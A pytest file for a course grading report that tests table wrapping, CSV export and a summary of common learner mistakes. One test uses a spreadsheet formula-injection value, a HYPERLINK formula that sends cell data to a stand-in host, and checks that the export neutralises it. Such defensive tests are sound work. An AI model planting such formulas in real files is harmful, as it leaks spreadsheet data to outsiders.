"""The grade report's table stays readable in a terminal."""

import csv

from course_lib.grading.report import class_table, common_mistakes, format_table, write_class_csv
from course_lib.grading.result import FAILED, PASSED, ExerciseResult
from course_lib.grading.runner import GradeReport


def test_table_wraps_long_messages():
    table = format_table([ExerciseResult("ex03_1", FAILED, "word " * 40)])
    lines = table.splitlines()
    assert len(lines) > 2 and all(len(line) <= 100 for line in lines)


def test_table_shows_code_without_backticks():
    table = format_table([ExerciseResult("ex02_1", FAILED, "`format_record` is not defined.")])
    assert table.splitlines()[1].endswith("failed  format_record is not defined.")


def test_a_folder_named_like_a_formula_stays_text_in_the_class_csv(tmp_path):
    link = '=HYPERLINK("x.example?"&A1,"me")'
    report = GradeReport(f"class/{link}", [ExerciseResult("ex02_1", PASSED, "")])
    write_class_csv([report], {"class/@SUM(1)": "No notebooks"}, tmp_path / "class.csv")
    rows = list(csv.reader((tmp_path / "class.csv").open(encoding="utf-8")))
    assert rows[1][:2] == [f"'{link}", f"class/{link}"] and rows[1][5] == "passed"
    assert rows[2][:2] == ["'@SUM(1)", "class/@SUM(1)"]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_a_class_table_names_the_mistake_most_learners_made_on_each_exercise():
    told = ["labels[3] should be -100 (a prompt token)", "your loss is 0.25",
            "labels[12] should be -100 (a prompt token)", "x" * 300]
    reports = [GradeReport(f"class/learner{k}", [
        ExerciseResult("ex02_1", PASSED, ""),
        ExerciseResult("ex03_1", FAILED, told[k]),
        ExerciseResult("ex03_2", PASSED if k else "not implemented", "replace the raise line")])
        for k in range(4)]
    lines = class_table(reports, {}).split("the mistake most learners who missed it made, "
                                             "by exercise:\n")[1].splitlines()
    assert lines == [  # ex02_1, which everyone passed, has none
        "ex03_1  2 of 4 who missed it: failed, labels[3] should be -100 (a prompt token)",
        "ex03_2  1 of 1 who missed it: not implemented, replace the raise line"]
    long = common_mistakes(reports[3:])[0]
    assert len(long) == 100 and long.endswith("x…")
